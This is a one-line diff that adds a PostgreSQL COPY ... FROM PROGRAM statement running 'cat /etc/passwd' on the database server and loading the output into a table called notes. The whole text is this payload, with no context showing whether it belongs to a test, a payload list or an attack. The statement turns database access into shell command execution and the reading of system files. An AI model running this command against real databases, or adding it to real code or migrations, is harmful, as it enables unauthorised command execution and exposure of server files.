@@ -1,0 +1,1 @@
+COPY public.notes FROM PROGRAM 'cat /etc/passwd'
